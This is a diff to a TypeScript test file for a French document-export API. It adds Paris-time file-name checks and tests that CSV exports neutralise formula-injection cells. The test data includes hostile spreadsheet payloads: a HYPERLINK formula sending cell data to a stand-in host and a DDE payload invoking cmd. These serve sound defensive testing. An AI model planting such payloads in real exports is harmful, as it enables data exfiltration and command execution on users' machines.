@@ -8,6 +8,7 @@ import { CONVERT_QUOTE, createCustomer, createDoc, createSupplier, ISSUE, line, 
 import { ExportLog, ExportStatus } from './export.entity';
 import { cancelExport, claimExport, writeExport } from './export.service';
 import { countDocuments, documentBatches, validateColumns, validateFilter } from './export-source';
+import { csvWriter } from './export-writers';
 
 const PARTY = 'Crème brûlée & Cie; «Œuvres» è ç €';
 const COLUMNS = ['type', 'number', 'date', 'status', 'partyName', 'totalExclVat', 'totalVat', 'totalInclVat', 'createdBy', 'createdAt', 'updatedBy', 'updatedAt', 'issuedBy', 'modificationCount', 'touchedBy', 'sourceNumber'];
@@ -197,6 +198,11 @@ describe('authorization', () => {
 
 describe('.xlsx download', () => {
   it('streams a workbook with typed cells, the user-action columns and a Paramètres sheet', async () => {
+    // The file name and "Exporté le" are in Paris time (as the screen), not UTC: the minute is one of these.
+    const parisMinutes = [new Date(), new Date(Date.now() + 60_000)].map((at) => {
+      const part = (type: string) => new Intl.DateTimeFormat('fr-FR', { timeZone: 'Europe/Paris', year: 'numeric', month: '2-digit', day: '2-digit', hour: '2-digit', minute: '2-digit', hourCycle: 'h23' }).formatToParts(at).find((p) => p.type === type)!.value;
+      return { file: `${part('year')}-${part('month')}-${part('day')}-${part('hour')}h${part('minute')}`, sheet: `${part('day')}/${part('month')}/${part('year')} ${part('hour')}:${part('minute')}` };
+    });
     const res = await download(d.client(Profile.ADV), `/api/exports/documents.xlsx?columns=${COLUMNS.join(',')}`);
     expect(res.status).toBe(200);
     expect(res.headers.get('content-type')).toContain('spreadsheetml');
@@ -239,6 +245,9 @@ describe('.xlsx download', () => {
     const params = XLSX.utils.sheet_to_json<unknown[]>(book.Sheets['Paramètres'], { header: 1 });
     const asMap = new Map(params.map((r) => [r[0], r[1]]));
     expect(asMap.get('Exporté par')).toBe(advName);
+    const fileName = /filename="([^"]+)"/.exec(res.headers.get('content-disposition') ?? '')![1];
+    expect(parisMinutes.some((m) => fileName === `liste-des-pieces-${m.file}.xlsx`)).toBe(true);
+    expect(parisMinutes.some((m) => String(asMap.get('Exporté le')).startsWith(m.sheet))).toBe(true);
     expect(asMap.get('Nombre de lignes')).toBe(3);
     expect(String(asMap.get('Colonnes'))).toContain('Créé par');
   });
@@ -279,6 +288,45 @@ describe('CSV download', () => {
     const book = XLSX.read(text, { type: 'string', FS: ';', raw: true });
     const rows = XLSX.utils.sheet_to_json<string[]>(book.Sheets[book.SheetNames[0]], { header: 1, raw: true });
     expect(rows[1][1]).toBe(PARTY);
+  });
+});
+
+describe('CSV formula injection', () => {
+  const EVIL = ['=HYPERLINK("http://evil.test/?x="&A1;"Cliquez")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+33 6 12 34 56 78', '-2+3', '\tTabulé', '\rRetour'];
+
+  it('neutralises every cell that a spreadsheet would take for a formula (OWASP: a leading quote)', async () => {
+    const adv = other.client(Profile.ADV);
+    for (const name of EVIL) {
+      const customer = await createCustomer(adv, name);
+      await createDoc(adv, 'QUOTE', { partyId: customer.id, lines: [line()] });
+    }
+    const res = await download(adv, '/api/exports/documents.csv?columns=partyName&types=QUOTE');
+    const text = Buffer.from(await res.arrayBuffer()).toString('utf8').slice(1);
+    const book = XLSX.read(text, { type: 'string', FS: ';', raw: true });
+    const cells = XLSX.utils.sheet_to_json<string[]>(book.Sheets[book.SheetNames[0]], { header: 1, raw: true }).slice(1).map((r) => r[0]);
+    // Party names are trimmed on input, so the leading tab and CR do not survive as such.
+    for (const name of EVIL.map((n) => n.trim())) expect(cells).toContain(/^[=+\-@\t\r]/.test(name) ? `'${name}` : name);
+    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it('keeps negative amounts and counts as numbers, and quotes text cells starting with -, tab or CR', async () => {
+    const out = new PassThrough();
+    const chunks: Buffer[] = [];
+    out.on('data', (c: Buffer) => chunks.push(c));
+    const writer = csvWriter(out, [
+      { labelFr: 'Montant', type: 'money', width: 10 },
+      { labelFr: 'Nombre', type: 'integer', width: 10 },
+      { labelFr: 'Texte', type: 'text', width: 10 },
+    ]);
+    await writer.writeBatch([
+      [-123_456, -3, '-12'],
+      [5, 0, '\t=1+1'],
+      [0, 1, '\r@x'],
+      [0, 1, 'Dupont'],
+    ]);
+    await writer.finish([]);
+    const lines = Buffer.concat(chunks).toString('utf8').slice(1).split('\r\n');
+    expect(lines.slice(1, 5)).toEqual(["-1234,56;-3;'-12", "0,05;0;'\t=1+1", `0,00;1;"'\r@x"`, '0,00;1;Dupont']);
   });
 });
 
